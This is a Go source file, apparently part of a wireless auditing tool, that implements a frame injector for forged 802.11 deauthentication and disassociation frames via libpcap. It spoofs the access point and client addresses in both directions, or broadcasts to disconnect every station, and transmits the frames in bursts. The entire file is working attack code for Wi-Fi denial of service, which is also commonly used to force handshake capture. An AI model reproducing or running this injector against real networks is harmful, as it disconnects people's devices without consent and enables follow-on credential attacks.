package tools

import (
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcap"
)

var broadcastHW = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// frameWriter is the part of a pcap handle the injector needs.
type frameWriter interface {
	WritePacketData(data []byte) error
	Close()
}

// FrameInjector sends deauthentication frames straight through libpcap. It is
// the deauth path when aireplay-ng is not installed.
type FrameInjector struct {
	iface string
	// Bursts is how many frames go out per direction on each Deauth call.
	Bursts int
	// Gap separates bursts.
	Gap time.Duration

	mu     sync.Mutex
	handle frameWriter
	open   func(iface string) (frameWriter, error)
}

func NewFrameInjector(iface string) *FrameInjector {
	return &FrameInjector{
		iface:  iface,
		Bursts: 5,
		Gap:    10 * time.Millisecond,
		open:   openLive,
	}
}

func openLive(iface string) (frameWriter, error) {
	handle, err := pcap.OpenLive(iface, 65536, true, pcap.BlockForever)
	if err != nil {
		return nil, fmt.Errorf("open pcap for injection on %s: %w", iface, err)
	}
	return handle, nil
}

// Close closes the pcap handle.
func (inj *FrameInjector) Close() {
	inj.mu.Lock()
	defer inj.mu.Unlock()
	if inj.handle != nil {
		inj.handle.Close()
		inj.handle = nil
	}
}

// Deauth sends deauthentication frames for bssid. With a client both directions
// are spoofed and a disassociation follows; without one the AP appears to
// kick every station.
func (inj *FrameInjector) Deauth(ctx context.Context, bssid, clientMAC, _ string) error {
	ap, err := net.ParseMAC(bssid)
	if err != nil {
		return fmt.Errorf("bssid %q: %w", bssid, err)
	}
	client := broadcastHW
	if clientMAC != "" {
		if client, err = net.ParseMAC(clientMAC); err != nil {
			return fmt.Errorf("client %q: %w", clientMAC, err)
		}
	}

	frames, err := deauthFrames(ap, client, layers.Dot11ReasonClass2FromNonAuth)
	if err != nil {
		return err
	}

	inj.mu.Lock()
	defer inj.mu.Unlock()
	if inj.handle == nil {
		if inj.handle, err = inj.open(inj.iface); err != nil {
			return err
		}
	}

	for i := 0; i < inj.Bursts; i++ {
		for _, f := range frames {
			if err := inj.handle.WritePacketData(f); err != nil {
				return fmt.Errorf("inject deauth: %w", err)
			}
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(inj.Gap):
		}
	}
	return nil
}

func deauthFrames(ap, client net.HardwareAddr, reason layers.Dot11Reason) ([][]byte, error) {
	// AP -> client (or broadcast)
	toClient, err := buildDeauthFrame(client, ap, ap, reason)
	if err != nil {
		return nil, err
	}
	if client.String() == broadcastHW.String() {
		return [][]byte{toClient}, nil
	}

	// Client -> AP
	toAP, err := buildDeauthFrame(ap, client, ap, reason)
	if err != nil {
		return nil, err
	}
	disassoc, err := buildDisassocFrame(client, ap, ap, reason)
	if err != nil {
		return nil, err
	}
	return [][]byte{toClient, toAP, disassoc}, nil
}

// buildDeauthFrame constructs a raw 802.11 deauthentication frame with RadioTap header.
func buildDeauthFrame(addr1, addr2, addr3 net.HardwareAddr, reason layers.Dot11Reason) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		ComputeChecksums: true,
		FixLengths:       true,
	}

	err := gopacket.SerializeLayers(buf, opts,
		&layers.RadioTap{},
		&layers.Dot11{
			Address1: addr1,
			Address2: addr2,
			Address3: addr3,
			Type:     layers.Dot11TypeMgmtDeauthentication,
		},
		&layers.Dot11MgmtDeauthentication{
			Reason: reason,
		},
	)
	if err != nil {
		return nil, fmt.Errorf("serialize deauth frame: %w", err)
	}

	return buf.Bytes(), nil
}

func buildDisassocFrame(addr1, addr2, addr3 net.HardwareAddr, reason layers.Dot11Reason) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		ComputeChecksums: true,
		FixLengths:       true,
	}

	err := gopacket.SerializeLayers(buf, opts,
		&layers.RadioTap{},
		&layers.Dot11{
			Address1: addr1,
			Address2: addr2,
			Address3: addr3,
			Type:     layers.Dot11TypeMgmtDisassociation,
		},
		&layers.Dot11MgmtDisassociation{
			Reason: reason,
		},
	)
	if err != nil {
		return nil, fmt.Errorf("serialize disassoc frame: %w", err)
	}

	return buf.Bytes(), nil
}
